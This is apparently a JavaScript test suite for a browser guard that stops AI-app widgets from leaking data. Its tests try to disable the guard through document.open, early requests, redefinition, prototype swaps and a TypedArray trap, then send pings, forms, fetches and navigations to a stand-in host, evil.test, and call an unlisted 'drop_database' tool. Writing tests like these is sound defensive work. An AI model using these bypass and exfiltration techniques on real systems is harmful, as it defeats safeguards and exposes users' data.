// The guard's lifetime: requests made before its engine is ready, and code that tries to remove,
// replace or outlive it. The servers' log is the judge.
import assert from 'node:assert/strict';
import { test } from 'node:test';

import { OPTIONS, PAGE_CSP, PAGE_HELPERS, assertNothingLeaked, generatedCsp, useBrowser, waitForServed } from './helpers.mjs';

const session = useBrowser();

test('guard removal by document.open(), called or implied by document.write after load (it erases every listener on the window and the document): pings, links and forms into other windows, and new frames stay guarded (guard)', async () => {
  const page = await session.open();
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const evil = (name) => `https://evil.test/adv-reopen/${name}`;
    /** After `reopen()`, the markup's ping, link and form are used and a frame is inserted. */
    const attack = async (reopen, name) => {
      reopen(`<a id="ping" href="#here" ping="${evil(name + '-ping')}">ping</a>
        <a id="link" href="${evil(name + '-link')}" target="_blank">link</a>
        <form id="form" action="${evil(name + '-form')}" method="post" target="_blank"></form>`);
      document.getElementById('ping').click();
      document.getElementById('link').click();
      document.getElementById('form').requestSubmit();
      const frame = document.createElement('iframe');
      let fromLoad;
      frame.onload = () => { fromLoad = attempt(() => frames[frames.length - 1].fetch(evil(name + '-frame'))); };
      document.body.appendChild(frame);
      return (await fromLoad).error;
    };
    return {
      documentOpen: await attack((html) => { document.open(); document.write(html); document.close(); }, 'open'),
      writeAfterLoad: await attack((html) => { document.write(html); document.close(); }, 'write'),
      control: document.body.appendChild(Object.assign(document.createElement('a'), { href: 'https://docs.test/adv-reopen/allowed', target: '_blank' })).click(),
    };
  });
  await waitForServed('docs.test/adv-reopen/allowed'); // the last click of the page opened its popup: earlier ones would have too
  assertNothingLeaked('adv-reopen');
  assert.deepEqual(outcomes, { documentOpen: 'TypeError', writeAfterLoad: 'TypeError', control: undefined });
  await page.close();
});

test('timing: every sink used from a synchronous script right after install(), before the engine is ready → refused, or held until the engine decides (guard); before the guard script, only the generated CSP applies (stated limit: browser CSP)', async () => {
  // The host's bridge, as the Apps SDK puts it in the widget's realm before any widget script.
  const head = `<script>window.hostLog = []; window.openai = { callTool: async (name) => { hostLog.push(name); return name; } };</script>`;
  const page = await session.browser.open({
    options: { ...OPTIONS, tools: ['search'] },
    csp: PAGE_CSP,
    head,
    afterInstall: `window.early = (() => {
      const evil = (name) => 'https://evil.test/adv-early/' + name;
      const error = (fn) => { try { fn(); return 'ran'; } catch (e) { return e.name; } };
      const settle = (promise) => promise.then(() => 'sent', (e) => e.name);
      document.documentElement.appendChild(document.createElement('div')).innerHTML = '<form action="' + evil('form') + '" method="post"></form><a id="ping" href="#x" ping="' + evil('ping') + '">p</a><a id="link" href="' + evil('link') + '" target="_blank">l</a>';
      const xhr = new XMLHttpRequest();
      xhr.open('GET', 'https://api.test/v1/adv-early/xhr');
      const sync = {
        xhr: error(() => xhr.send()),
        beacon: navigator.sendBeacon('https://api.test/v1/adv-early/beacon'),
        eventSource: error(() => new EventSource('https://widget.test/events')),
        webSocket: error(() => new WebSocket('wss://live.test/adv-early')),
        fetchLater: error(() => fetchLater('https://api.test/v1/adv-early/later')),
        open: window.open('https://docs.test/adv-early/open'),
        alert: alert('early'),
      };
      document.forms[0].submit();
      document.getElementById('ping').click();
      document.getElementById('link').click();
      location.href = evil('location');
      return { sync, blocked: settle(fetch(evil('fetch'))), held: settle(fetch('https://api.test/v1/adv-early/held')),
        unlistedTool: settle(openai.callTool('drop_database')), listedTool: settle(openai.callTool('search')) };
    })();`,
  });
  let dialogs = 0;
  page.on('dialog', (dialog) => { dialogs++; dialog.dismiss(); });
  const outcomes = await page.evaluate(async () => ({
    ...early.sync, blocked: await early.blocked, held: await early.held, unlistedTool: await early.unlistedTool, listedTool: await early.listedTool, hostLog,
  }));
  await waitForServed('api.test/v1/adv-early/held'); // held while the engine loaded, then decided and sent
  assertNothingLeaked('adv-early', ['api.test/v1/adv-early/xhr', 'api.test/v1/adv-early/beacon', 'api.test/v1/adv-early/later', 'docs.test']);
  assert.deepEqual(outcomes, {
    xhr: 'NetworkError', beacon: false, eventSource: 'SecurityError', webSocket: 'SecurityError', fetchLater: 'TypeError', open: null, alert: undefined,
    blocked: 'TypeError', held: 'sent', unlistedTool: 'Error', listedTool: 'sent', hostLog: ['search'],
  }, 'even listed requests are refused while the guard starts; fetch and tool calls wait for it');
  assert.equal(dialogs, 0);
  await page.close();

  // Before the guard's script: the widget's own markup and scripts answer only to the browser's CSP.
  const beforeGuard = await session.browser.open({
    options: OPTIONS,
    csp: generatedCsp,
    script: 'widget-guard.inline.js',
    head: `<img src="https://evil.test/adv-before-guard/img"><script>
      fetch('https://evil.test/adv-before-guard/fetch').catch(() => {});
      fetch('https://api.test/adv-before-guard/admin').catch(() => {});</script>`,
    afterInstall: PAGE_HELPERS,
  });
  await waitForServed('api.test/adv-before-guard/admin'); // a path the allow-list forbids: unguarded, as stated
  await beforeGuard.evaluate(() => guardReady);
  assertNothingLeaked('adv-before-guard');
  await beforeGuard.close();
});

test('guard removal by redefinition: WidgetGuard overwritten, deleted or redefined, a global `let fetch`, window\'s prototype replaced, window.parent or MessageEvent.prototype.source redefined in a framed widget, listeners that stop propagation before the guard\'s → all refused or inert, the guard stays in force (guard)', async () => {
  const page = await session.browser.open({
    options: OPTIONS,
    csp: PAGE_CSP,
    afterInstall: PAGE_HELPERS + `
      window.attempts = {};
      const tryIt = (name, fn) => { try { fn(); attempts[name] = 'done'; } catch (e) { attempts[name] = e.name; } };
      tryIt('assignWidgetGuard', () => { 'use strict'; window.WidgetGuard = { install: () => Promise.resolve({ mode: 'report' }) }; });
      tryIt('deleteWidgetGuard', () => { 'use strict'; delete window.WidgetGuard; });
      tryIt('defineWidgetGuard', () => Object.defineProperty(window, 'WidgetGuard', { value: {} }));
      tryIt('replaceInstall', () => { 'use strict'; WidgetGuard.install = () => null; });
      tryIt('windowPrototype', () => Object.setPrototypeOf(window, { fetch: () => 'unguarded' }));
      tryIt('xhrPrototypeChain', () => Object.setPrototypeOf(XMLHttpRequest.prototype, { open() {}, send() {} }));
      // A classic script declaring a global 'fetch' binding would shadow window.fetch for every later script.
      window.addEventListener('error', (e) => { attempts.letFetch = /Identifier 'fetch' has already been declared/.test(e.message) ? 'SyntaxError' : e.message; }, { once: true });
      document.head.appendChild(Object.assign(document.createElement('script'), { textContent: 'let fetch = () => Promise.resolve("unguarded");' }));
      // Listeners registered after the guard's cannot stop it: the guard's capture listeners run first.
      for (const type of ['click', 'submit']) window.addEventListener(type, (e) => e.stopImmediatePropagation(), true);
      navigation.addEventListener('navigate', (e) => e.stopImmediatePropagation());`,
  });
  const outcomes = await page.evaluate(async () => {
    await guardReady;
    const evil = (name) => `https://evil.test/adv-removal/${name}`;
    document.body.innerHTML = `<a href="#x" ping="${evil('ping')}">p</a><form action="${evil('form')}" target="_blank" method="post"></form>`;
    document.querySelector('a').click();
    document.querySelector('form').requestSubmit();
    location.href = evil('location');
    const xhr = new XMLHttpRequest();
    xhr.open('GET', evil('xhr'));
    return {
      attempts,
      fetch: (await attempt(() => fetch(evil('fetch')))).error,
      xhr: (await attempt(() => xhr.send())).error,
      stillInstalled: typeof WidgetGuard.install === 'function' && (await WidgetGuard.install({ mode: 'report' })).mode,
      allowed: (await attempt(() => fetch('https://api.test/v1/adv-removal/ok'))).error ?? 'sent',
    };
  });
  await waitForServed('api.test/v1/adv-removal/ok');
  assertNothingLeaked('adv-removal');
  assert.deepEqual(outcomes, {
    attempts: {
      assignWidgetGuard: 'TypeError', deleteWidgetGuard: 'TypeError', defineWidgetGuard: 'TypeError', replaceInstall: 'TypeError',
      windowPrototype: 'TypeError', xhrPrototypeChain: 'done', letFetch: 'SyntaxError', // the wrappers are own, locked properties: a new prototype changes nothing
    },
    fetch: 'TypeError', xhr: 'NetworkError', stillInstalled: 'enforce', allowed: 'sent',
  });
  await page.close();

  // Framed by a host (the MCP Apps bridge): the stand-in for window.parent and event.source cannot be unlocked.
  const framed = await session.browser.open({
    options: { ...OPTIONS, tools: ['search'] },
    csp: PAGE_CSP,
    host: `<script>window.hostLog = []; addEventListener('message', (e) => hostLog.push(e.data.params.name));</script>`,
  });
  const locked = await framed.widget.evaluate(async () => {
    await guardReady;
    const error = (fn) => { try { fn(); return 'done'; } catch (e) { return e.name; } };
    const call = (name) => window.parent.postMessage({ jsonrpc: '2.0', id: name, method: 'tools/call', params: { name } }, '*');
    const outcomes = {
      parent: error(() => Object.defineProperty(window, 'parent', { value: window.top })),
      source: error(() => Object.defineProperty(MessageEvent.prototype, 'source', { get: () => window.top })),
    };
    call('drop_database');
    call('search');
    return outcomes;
  });
  await framed.waitForFunction(() => hostLog.length > 0);
  assert.deepEqual({ ...locked, hostLog: await framed.evaluate(() => hostLog) }, { parent: 'TypeError', source: 'TypeError', hostLog: ['search'] });
  await framed.close();
});

test('the engine driven into a trap through the loader (a TypedArray length redefined while the sanitizer runs) → nothing traps: navigation and form posts to unlisted origins stay refused, listed requests still go (guard)', async () => {
  const page = await session.open(`window.refusals = [];
    document.addEventListener('widget-guard:violation', (e) => refusals.push(e.detail.sink + ' ' + e.detail.blockedURL));`);
  const outcome = await page.evaluate(async () => {
    const guard = await guardReady;
    const typedArray = Object.getPrototypeOf(Uint8Array.prototype);
    const length = Object.getOwnPropertyDescriptor(typedArray, 'length');
    Object.defineProperty(typedArray, 'length', { get: () => 0xfffffff0, configurable: true });
    let redacted;
    try { redacted = guard.redactText('mail jane.doe@example.com'); } catch (error) { redacted = error.name; }
    Object.defineProperty(typedArray, 'length', length);
    document.body.innerHTML = '<form action="https://evil.test/adv-trap/form" method="post"><input name="q" value="x"></form>';
    document.forms[0].requestSubmit();
    location.href = 'https://evil.test/adv-trap/location';
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { redacted, refusals, allowed: await attempt(() => fetch('https://api.test/v1/adv-trap/ok').then((r) => r.json())) };
  });
  assert.deepEqual({ ...outcome, allowed: outcome.allowed.value?.path }, {
    redacted: 'mail [REDACTED:email]',
    refusals: ['form-submit https://evil.test/adv-trap/form', 'navigation https://evil.test/adv-trap/location'],
    allowed: '/v1/adv-trap/ok',
  });
  assertNothingLeaked('adv-trap');
  await page.close();
});
